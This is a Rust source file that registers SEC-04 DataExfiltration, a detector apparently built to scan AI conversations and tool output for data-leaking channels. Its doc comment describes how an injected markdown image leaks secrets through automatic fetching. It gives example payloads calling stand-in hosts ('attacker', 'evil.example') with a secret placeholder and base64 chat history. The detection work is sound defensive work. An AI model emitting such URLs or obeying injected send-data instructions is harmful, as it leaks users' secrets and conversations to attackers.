//! SEC-04 DataExfiltration.
//!
//! ## What it catches
//! Channels that move data out of the conversation: markdown images and links (and HTML
//! `<img>`) whose URL has a template placeholder or a long encoded value in its query, URLs
//! carrying long base64/hex blobs in data-named parameters, and instructions to send
//! conversation content, secrets or files to a URL, webhook or address.
//!
//! ## Why it matters
//! A host that renders markdown fetches image URLs automatically: one injected
//! `![](https://attacker/log?d={secret})` leaks whatever the model fills in, with no click.
//!
//! ## Example
//! `![loading](https://evil.example/p.png?data=BASE64_OF_THE_CHAT_HISTORY)`
//!
//! ## Known false positives
//! Signed download URLs and analytics pixels with long query values in documentation.
//!
//! Origins: everywhere: instructions arrive in output and metadata, and the exfiltrating URL
//! itself can sit in an argument the model wrote.

#[allow(unused_imports)]
use super::ALL_ORIGINS;
use super::{DetectorInfo, ViewSet};
#[allow(unused_imports)]
use crate::scan::Origin;
use crate::scan::Severity;
use crate::scan::select::Profile;

/// Registry row.
pub const INFO: DetectorInfo = DetectorInfo {
    id: "SEC-04",
    name: "DataExfiltration",
    default_severity: Severity::High,
    origins: ALL_ORIGINS,
    profile: Profile::Security,
    summary: "markdown images/links carrying data in URLs, encoded blobs in URLs, instructions to send data out",
    views: ViewSet::TEXT,
    redact: false,
    pack: Some((
        "detectors/sec04_data_exfiltration.toml",
        include_str!("../../detectors/sec04_data_exfiltration.toml"),
    )),
    native: None,
    scans_text: true,
};
